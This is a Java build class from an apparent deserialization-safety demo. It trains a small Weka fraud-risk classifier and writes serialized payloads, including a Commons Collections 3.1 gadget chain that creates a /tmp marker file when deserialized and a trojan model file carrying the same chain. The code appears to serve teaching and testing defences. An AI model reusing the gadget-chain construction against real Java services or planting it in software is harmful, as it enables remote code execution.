package dev.safeload.demo;

import java.io.ByteArrayOutputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InstantiateTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;
import weka.classifiers.trees.J48;
import weka.core.Attribute;
import weka.core.DenseInstance;
import weka.core.Instances;
import weka.core.SerializationHelper;

/**
 * Build step: trains the demo's Weka model and writes the payloads the demo ships, into the
 * classes folder so they end up in the jar.
 */
public final class BuildArtifacts {

    /** Where the shipped attack payload leaves its mark if it ever runs. */
    public static final String DEMO_MARKER = "/tmp/safeload-demo-pwned";

    /** Where the shipped malicious model leaves its mark if it is ever loaded. */
    public static final String MODEL_MARKER = "/tmp/safeload-demo-pwned-by-model";

    private BuildArtifacts() {
    }

    public static void main(String[] args) throws Exception {
        Path out = Path.of(args[0]);
        Files.createDirectories(out.resolve("models"));
        Files.createDirectories(out.resolve("payloads"));
        SerializationHelper.write(out.resolve("models/risk-j48.model").toString(), train());
        // A "model" file as an attacker uploads it to a model store: Weka's format is a Java
        // serialization stream, so the file is the gadget chain itself.
        Files.write(out.resolve("models/risk-j48-trojan.model"), commonsCollectionsChain(MODEL_MARKER));
        Files.write(out.resolve("payloads/attack-commons-collections.ser"), commonsCollectionsChain(DEMO_MARKER));
        Files.write(out.resolve("payloads/benign-session.ser"), benignSession());
    }

    /** The attributes the model reads: amount, hour of day, country risk; label low or high. */
    static Instances header() {
        ArrayList<Attribute> attributes = new ArrayList<>();
        attributes.add(new Attribute("amount"));
        attributes.add(new Attribute("hour"));
        attributes.add(new Attribute("country_risk"));
        attributes.add(new Attribute("risk", List.of("low", "high")));
        Instances data = new Instances("transactions", attributes, 0);
        data.setClassIndex(3);
        return data;
    }

    /** A J48 tree on 600 synthetic transactions from a fixed seed. */
    static J48 train() throws Exception {
        Instances data = header();
        Random random = new Random(42);
        for (int i = 0; i < 600; i++) {
            double amount = Math.round(random.nextDouble() * 5000);
            double hour = random.nextInt(24);
            double country = Math.round(random.nextDouble() * 10) / 10.0;
            boolean high = amount > 3000 && (hour < 6 || country > 0.6) || country > 0.9;
            if (random.nextDouble() < 0.03) {
                high = !high;
            }
            data.add(new DenseInstance(1.0, new double[] {amount, hour, country, high ? 1 : 0}));
        }
        J48 tree = new J48();
        tree.buildClassifier(data);
        return tree;
    }

    /**
     * A commons-collections 3.1 chain (HashMap, TiedMapEntry, LazyMap, ChainedTransformer) that
     * creates {@code marker} with {@code new FileOutputStream(marker)} when it is deserialized.
     */
    public static byte[] commonsCollectionsChain(String marker) throws Exception {
        Transformer[] real = {
            new ConstantTransformer(FileOutputStream.class),
            new InstantiateTransformer(new Class<?>[] {String.class}, new Object[] {marker}),
        };
        ChainedTransformer chain = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        @SuppressWarnings("unchecked")
        Map<Object, Object> lazy = LazyMap.decorate(new HashMap<>(), chain);
        TiedMapEntry entry = new TiedMapEntry(lazy, "safeload");
        Map<Object, Object> outer = new HashMap<>();
        outer.put(entry, "value");
        lazy.remove("safeload");
        Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
        transformers.setAccessible(true);
        transformers.set(chain, real);
        return serialize(outer);
    }

    static byte[] benignSession() throws IOException {
        Map<String, Object> session = new HashMap<>();
        session.put("user", "ada");
        session.put("roles", List.of("analyst", "reviewer"));
        session.put("issued", java.time.Instant.parse("2026-11-27T00:00:00Z"));
        return serialize(session);
    }

    static byte[] serialize(Object value) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(value);
        }
        return bytes.toByteArray();
    }
}
